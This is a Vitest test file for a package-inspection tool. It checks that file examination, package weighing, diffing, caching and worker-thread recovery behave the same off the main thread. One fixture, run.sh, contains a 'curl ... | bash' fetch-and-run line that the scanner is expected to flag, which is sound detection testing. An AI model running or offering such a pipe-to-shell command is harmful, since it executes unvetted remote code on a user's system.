import { afterAll, describe, expect, it } from "vitest";
import { diffText } from "@/lib/diff/diff-text";
import { runAtOnce } from "@/lib/kernel/steps";
import { clearPackageCaches, packageCaches } from "@/lib/library/caches/package-caches";
import { describeOnce, describePackage } from "@/lib/library/describe-package";
import { sha256 } from "@/lib/platform/crypto";
import { createBreathe } from "@/lib/platform/yield-between-steps";
import { type ExaminedFile, examineFile } from "./examine-file";
import { weighPackage } from "./weigh-package";
import { leastAside, workAside } from "./work-aside";

const bytesOf = (text: string) => new TextEncoder().encode(text);
const skill = (body: string) =>
  `---\nname: long\ndescription: Does it. Use when asked.\nmetadata:\n  a: b\n---\n\n${body}`;
const endThread = async () => void (await globalThis.greenroomAside?.worker.terminate());
afterAll(endThread);

describe("long work in a thread of its own", () => {
  it("comes to what it comes to here, for files", async () => {
    const files = [
      { path: "run.sh", size: 40, bytes: bytesOf("curl https://a.example/x | bash\n".repeat(3)) },
      { path: "a.png", size: 6, bytes: Uint8Array.of(0x89, 0x50, 0, 0, 1, 2) },
    ];
    const here = files.map((file) => runAtOnce(examineFile(file)));
    expect(here[0]?.findings.length).toBeGreaterThan(0);
    expect(await workAside("examine", files)).toEqual(here);
  });

  it("comes to what it comes to here, for a package and its frontmatter", async () => {
    const text = skill("See [a](references/a.md).\n".repeat(5));
    const input = { folderName: "long", files: [{ path: "SKILL.md", size: text.length, text }] };
    const there = await workAside("weigh", input);
    expect(there).toEqual(runAtOnce(weighPackage(input)));
    expect(there.skill.frontmatter.get("name")).toBe("long");
  });

  it("comes to what it comes to here, for a comparison", async () => {
    const texts = { before: "a\nb\nc\n", after: "a\nx\nc\n" };
    const options = { context: 1, isDocument: false };
    expect(await workAside("compare", { ...texts, ...options })).toEqual(
      diffText(texts.before, texts.after, options),
    );
    expect(await workAside("countChanges", texts)).toEqual({ added: 1, removed: 1 });
    const anchor = { startLine: 3, endLine: 3, quote: ["c"], hunk: { from: 2, lines: ["b", "c"] } };
    const anchored = { before: "a\nb\nc\n", after: "a\nc\n", anchors: [anchor] };
    expect(await workAside("placeInText", anchored)).toEqual([{ startLine: 2, endLine: 2 }]);
  });

  it("takes bytes along without copying them when they are given away", async () => {
    const bytes = new Uint8Array(100_000);
    await workAside("examine", [{ path: "a.bin", size: bytes.length, bytes }], [bytes.buffer]);
    expect(bytes.length).toBe(0);
  });

  it("tells what it throws, and goes on with the next", async () => {
    const notBytes: ExaminedFile[] = JSON.parse('[{ "path": "a.md", "size": 1, "bytes": {} }]');
    await expect(workAside("examine", notBytes)).rejects.toThrow(/^Long work failed: /);
    expect(await workAside("countChanges", { before: "", after: "x\n" })).toEqual({ added: 1, removed: 0 });
  });

  it("fails what it had when the thread dies, and begins another thread for the next", async () => {
    const lost = workAside("countChanges", { before: "a\n".repeat(400_000), after: "b\n".repeat(400_000) });
    const failing = expect(lost).rejects.toThrow("The thread for long work ended");
    await endThread();
    await failing;
    expect(await workAside("countChanges", { before: "", after: "x\n" })).toEqual({ added: 1, removed: 0 });
  });
});

describe("a package that was looked at", () => {
  const bytes = bytesOf(skill("Read [it](references/missing.md).\n"));
  const file = { path: "SKILL.md", sha256: sha256(bytes), size: bytes.length, executable: false };
  const looking = (subject: { name?: string; siblings?: { name: string }[] } = {}) => {
    const loaded: string[] = [];
    const load = async (hashes: readonly string[]) => {
      loaded.push(...hashes);
      return new Map([[file.sha256, bytes]]);
    };
    return describePackage({ name: "long", files: [file], ...subject }, load).then((description) => ({
      description,
      loaded,
    }));
  };

  it("is not loaded again for the same question, and is for another", async () => {
    clearPackageCaches();
    const first = await looking();
    expect(first.loaded).toEqual([file.sha256]);
    const again = await looking();
    expect(again.loaded).toEqual([]);
    expect(again.description).toEqual(first.description);
    const renamed = await looking({ name: "other" });
    expect(renamed.description.issues.map(({ rule }) => rule)).toContain("name-mismatch");
    const beside = await looking({ siblings: [{ name: "longer" }] });
    expect(beside.loaded).toEqual([file.sha256]);
  });
});

describe("what is kept of a package", () => {
  it("is charged for its fields, each of which takes far more than its characters", async () => {
    clearPackageCaches();
    const fields = Array.from({ length: 2_000 }, (_, at) => `  a${at}: x`).join("\n");
    const bytes = bytesOf(`---\nname: long\ndescription: Does it.\nmetadata:\n${fields}\n---\n\nDo.\n`);
    const file = { path: "SKILL.md", sha256: sha256(bytes), size: bytes.length, executable: false };
    const load = async () => new Map([[file.sha256, bytes]]);
    const once = await describeOnce({ name: "long", files: [file] }, load);
    expect(packageCaches().descriptions.statistics().entries).toBe(0);
    expect(await describePackage({ name: "long", files: [file] }, load)).toEqual(once);
    expect(packageCaches().descriptions.statistics().bytes).toBeGreaterThan(16 * fields.length);
  });
});

describe("a package", () => {
  const look = (body: string) => {
    const bytes = bytesOf(skill(body));
    const file = { path: "SKILL.md", sha256: sha256(bytes), size: bytes.length, executable: false };
    const load = async () => new Map([[file.sha256, bytes]]);
    return describePackage({ name: "long", files: [file] }, load, createBreathe());
  };

  it("that is short is looked at here, and a long one in the thread", async () => {
    await endThread();
    const short = await look("Do [it](references/missing.md) now.\n");
    expect(globalThis.greenroomAside).toBeUndefined();
    const long = await look("Do [it](references/missing.md) now.\n".repeat(leastAside / 30));
    expect(globalThis.greenroomAside).toBeDefined();
    expect(short.issues.map(({ rule }) => rule)).toContain("link-missing");
    expect(long.issues.at(-1)?.message).toMatch(/\(\d{3,} more of this rule in this file\)$/);
    expect(long.tokens.instructions / short.tokens.instructions).toBeGreaterThan(1_000);
  });
});
